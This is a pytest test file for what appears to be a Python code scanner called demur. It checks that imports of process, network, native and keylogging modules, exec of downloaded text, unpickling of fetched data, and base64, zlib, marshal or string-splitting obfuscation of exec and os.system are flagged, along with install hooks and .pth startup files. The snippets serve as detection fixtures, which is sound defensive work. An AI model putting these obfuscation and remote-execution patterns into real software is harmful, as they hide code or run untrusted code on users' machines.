import ast

import pytest
from support.skill_samples import actions, blocks, findings, seen

from demur.codes.reason_code import ReasonCode
from demur.guards.skill.event import SkillConfig
from demur.guards.skill.python_checks import PythonSource
from demur.guards.static.source_text import SourceText
from demur.model.finding import Action


def source(text: str) -> PythonSource:
    return PythonSource(SourceText("a.py", text), SkillConfig())


def test_calls_come_in_the_order_of_the_file_with_outer_ones_first() -> None:
    found = source("import os\nos.path.join(os.getcwd())()\nopen('x')").calls

    assert [path for _, path in found] == [None, "os.path.join", "os.getcwd", "open"]


def test_a_quote_is_one_short_line() -> None:
    one = source("call(\n  'a',\n  'b')\n" + f"call('{'x' * 99}')")
    short, long = (one.quote(call) for call, _ in one.calls)

    assert short == "call( 'a', 'b')"
    assert long.endswith("…")
    assert len(long) == 61


def test_a_sighting_of_a_whole_file_is_at_its_start() -> None:
    one = source("x = 1")

    assert one.hit("RULE", one.tree, "detail")[1:3] == (0, 0)
    assert one.constant_text(ast.Constant(3)) is None


@pytest.mark.parametrize(
    ("text", "rule", "action"),
    [
        ("import subprocess", "PY_IMPORT_PROCESS", Action.WARN),
        ("from subprocess import Popen", "PY_IMPORT_PROCESS", Action.WARN),
        ("import urllib.request", "PY_IMPORT_NETWORK", Action.WARN),
        ("from http import client", "PY_IMPORT_NETWORK", Action.WARN),
        ("import ctypes", "PY_IMPORT_NATIVE", Action.ESCALATE),
        ("import ctypes.util", "PY_IMPORT_NATIVE", Action.ESCALATE),
        ("from pynput import keyboard", "PY_IMPORT_SPY", Action.ESCALATE),
        ("socket = __import__('socket')", "PY_IMPORT_NETWORK", Action.WARN),
        ("import importlib\nimportlib.import_module(name)", "PY_IMPORT_DYNAMIC", Action.WARN),
        ("__import__('so' + 'cket')", "PY_HIDDEN_NAME", Action.BLOCK),
        (
            "import requests\n__import__(requests.get('u').text)",
            "PY_EXEC_REMOTE",
            Action.BLOCK,
        ),
    ],
)
def test_power_that_comes_by_import(text: str, rule: str, action: Action) -> None:
    assert actions(text)[rule] is action


@pytest.mark.parametrize(
    "text",
    [
        "import json, pathlib, urllib.parse, http",
        "from . import subprocess",
        "help_text = 'import ctypes'",
        "# import ctypes is not needed here",
        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import socket",
        "import typing\nif typing.TYPE_CHECKING:\n    import socket",
        "__import__('json')",
        "__import__('my' + 'module')",
        "__import__(1)",
        "__import__()",
    ],
)
def test_ordinary_imports_pass(text: str) -> None:
    assert seen(text) == set()


def test_a_module_is_named_once_a_file() -> None:
    [found] = findings({"run.py": "import socket\nimport socket\nfrom socket import socket"})

    assert found.evidence["module"] == "socket"
    assert found.evidence["line"] == 1


def test_a_module_that_was_settled_needs_no_remark() -> None:
    assert seen("import subprocess\nimport socket", allow_imports=("subprocess",)) == {
        "PY_IMPORT_NETWORK"
    }


def test_code_behind_another_test_still_counts() -> None:
    assert seen("if debug:\n    import socket") == {"PY_IMPORT_NETWORK"}


RCE, HIDDEN = ReasonCode.RCE_RISK, ReasonCode.OBFUSCATED_CODE


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("import requests\nexec(requests.get('https://example.com/job.py').text)", RCE),
        ("import requests\nexec(compile(requests.get('u').text, 'x', 'exec'))", RCE),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", HIDDEN),
        ("eval(bytes.fromhex('7072696e74283129').decode())", HIDDEN),
        ("import zlib\nexec(zlib.decompress(blob))", HIDDEN),
        ("exec(')1(tnirp'[::-1])", HIDDEN),
        ("exec(chr(112) + 'rint(1)')", HIDDEN),
        (
            (
                "_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x))\n"
                "exec((_)(b'eJwr'))"
            ),
            HIDDEN,
        ),
        ("import marshal, base64\nexec(marshal.loads(base64.b64decode(b'4wAA')))", HIDDEN),
        ("import os\ngetattr(os, 'sys' + 'tem')('ls')", HIDDEN),
        ("import os\nrun = getattr(os, 'pop' + 'en')", HIDDEN),
        ("__builtins__['ex' + 'ec']('1')", HIDDEN),
        ("__import__('o' + 's').system('ls')", HIDDEN),
        ("import pickle, requests\npickle.loads(requests.get('u').content)", RCE),
        ("import pickle, base64\npickle.loads(base64.b64decode('gASVBQ=='))", HIDDEN),
    ],
)
def test_code_from_elsewhere_or_in_disguise_blocks(text: str, code: ReasonCode) -> None:
    assert code in blocks(text)


@pytest.mark.parametrize(
    ("text", "rule", "action"),
    [
        ("eval(expression)", "PY_EXEC_DYNAMIC", Action.ESCALATE),
        ("exec(open('plugin.py').read())", "PY_EXEC_DYNAMIC", Action.ESCALATE),
        ("import builtins\ngetattr(builtins, name)", "PY_EXEC_DYNAMIC", Action.ESCALATE),
        ("eval('1 + 1')", "PY_EXEC_LITERAL", Action.WARN),
        ("import pickle\npickle.load(file)", "PY_UNPICKLE", Action.WARN),
        ("import yaml\nyaml.load(text)", "PY_UNPICKLE", Action.WARN),
        ("import yaml\nyaml.load(text, Loader=yaml.Loader)", "PY_UNPICKLE", Action.WARN),
        ("import yaml\nyaml.load(text, pick())", "PY_UNPICKLE", Action.WARN),
        (
            "import pickle, base64\npickle.loads(base64.b64decode(cookie))",
            "PY_UNPICKLE_DECODED",
            Action.ESCALATE,
        ),
    ],
)
def test_ambiguous_python_gets_the_action_of_its_rule(text: str, rule: str, action: Action) -> None:
    assert actions(text)[rule] is action


@pytest.mark.parametrize(
    "text",
    [
        "import ast\nast.literal_eval(text)",
        "import base64\nimage = base64.b64decode(row['thumbnail'])",
        "import zlib\nbody = zlib.decompress(blob)",
        "nonce = bytes.fromhex('7072696e')",
        "model.eval()",
        "import re\nre.compile('a')",
        "import os\ngetattr(os, 'getcwd')()",
        "getattr(thing, 'na' + 'me')",
        "getattr(thing)",
        "exec()",
        "import yaml\nyaml.load(text, Loader=yaml.SafeLoader)",
        "import yaml\nfrom yaml import CSafeLoader\nyaml.load(text, CSafeLoader)",
        "import yaml\nyaml.load(text, self.SafeLoader)",
        "import yaml\nyaml.safe_load(text)",
        "import torch\ntorch.load('a.pt', weights_only=True)",
        "import pickle\npickle.dumps(data)",
    ],
)
def test_reading_and_decoding_alone_pass(text: str) -> None:
    assert seen(text) == set()


def test_code_in_a_literal_is_read_as_code() -> None:
    assert "PY_IMPORT_NATIVE" in seen("exec('import ctypes')")
    assert blocks("exec('import base64\\nexec(base64.b64decode(x))')") == {HIDDEN}


def test_literals_within_literals_have_an_end() -> None:
    text = "1"
    for _ in range(8):
        text = f"exec({text!r})"

    assert "PY_EXEC_LITERAL" in seen(text)


HOOK = """\
import subprocess
from setuptools import setup
from setuptools.command.install import install

class Hook(install):
    def run(self):
        {act}

class Other:
    pass

setup(name='x', cmdclass={{'install': Hook}})
"""


def test_an_install_hook_that_acts_is_escalated() -> None:
    text = HOOK.format(act="subprocess.run(['make'])")

    assert actions(text, "setup.py")["PY_INSTALL_HOOK"] is Action.ESCALATE
    assert "PY_INSTALL_HOOK" in seen(text, "other.py")
    assert "PY_INSTALL_HOOK" not in seen(text.replace("setup(", "print("), "other.py")


def test_a_hook_that_does_not_act_passes() -> None:
    assert "PY_INSTALL_HOOK" not in seen(HOOK.format(act="super().run()"), "setup.py")


def test_network_access_during_setup_is_found() -> None:
    text = "import requests\nfrom setuptools import setup\n{}\nsetup()"

    at_once = text.format("requests.get('https://example.com')")
    later = text.format("def f():\n    requests.get('https://example.com')")
    assert "PY_INSTALL_HOOK" in seen(at_once, "setup.py")
    assert "PY_INSTALL_HOOK" not in seen(later, "setup.py")


@pytest.mark.parametrize("path", ["sitecustomize.py", "lib/usercustomize.py"])
def test_a_python_startup_file_is_escalated(path: str) -> None:
    assert actions("x = 1", path) == {"PY_STARTUP_FILE": Action.ESCALATE}


def test_lines_of_a_path_file_that_run_are_named_and_judged() -> None:
    assert seen("/opt/lib\n../src\n", "a.pth") == set()
    assert seen("/opt/lib\nimport site\n", "a.pth") == {"PY_STARTUP_FILE"}
    evil = "import base64; exec(base64.b64decode('eA=='))\n"
    assert blocks(evil, "a.pth") == {ReasonCode.OBFUSCATED_CODE}
